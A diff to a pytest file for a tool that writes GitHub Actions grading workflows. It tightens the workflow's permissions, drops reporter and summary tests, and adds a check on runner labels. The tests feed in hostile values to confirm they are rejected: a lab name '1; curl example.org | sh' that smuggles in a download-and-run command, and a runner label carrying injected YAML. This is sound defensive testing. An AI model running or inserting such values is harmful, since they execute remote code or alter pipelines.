@@ -1,22 +1,16 @@
-"""GitHub Classroom: the workflow file and what it reports."""
-
-import base64
-import json
+"""The workflow for GitHub Actions."""
 
 import pytest
 
 import grader
 from gradebook.exports import github
 from gradebook.exports.github import WorkflowError
-from gradebox.grade import CheckReport, Outcome
-from tests.gradebook.exports.classes import HOSTILE, graded
 
 
-def test_the_workflow_has_no_more_rights_than_the_reporter_needs() -> None:
+def test_the_workflow_may_only_read() -> None:
     text = github.workflow(grader.course())
     block = text.partition("permissions:\n")[2].partition("\n\n")[0]
-    rights = [line.split("#")[0].strip() for line in block.splitlines()]
-    assert rights == ["contents: read", "actions: read", "checks: write"]
+    assert [line.strip() for line in block.splitlines()] == ["contents: read"]
     assert "persist-credentials: false" in text
 
 
@@ -35,17 +29,8 @@ def test_labs_cannot_smuggle_in_a_command() -> None:
         github.workflow(grader.course(), lab="1; curl example.org | sh")
 
 
-def test_the_reporter_is_told_every_criterion_with_its_points() -> None:
-    grade = graded({"lab1.benchmark.warmed_up": CheckReport(Outcome.FAILED, HOSTILE)})
-    line = github.reporter_result(grade)
-    made = json.loads(base64.b64decode(line))
-    assert "\n" not in line
-    assert (made["status"], made["max_score"]) == ("pass", 20)
-    assert sum(test["score"] for test in made["tests"]) == 19
-    assert [test["status"] for test in made["tests"]] == ["fail", "pass", "pass", "pass"]
-    assert HOSTILE in made["tests"][0]["message"]
-
-
-def test_the_summary_is_a_table_of_criteria() -> None:
-    text = github.summary(graded({}))
-    assert "| Lab 1: Memory profiling | 5 / 5 | 7 / 7 |" in text
+def test_a_runner_of_ones_own_is_named_by_its_labels() -> None:
+    assert "runs-on: ubuntu-latest\n" in github.workflow(grader.course())
+    assert 'runs-on: ["self-hosted", "gpu"]\n' in github.workflow(grader.course(), runs_on="self-hosted,gpu")
+    with pytest.raises(WorkflowError, match="is no label of a runner"):
+        github.workflow(grader.course(), runs_on="gpu\nsteps: []")
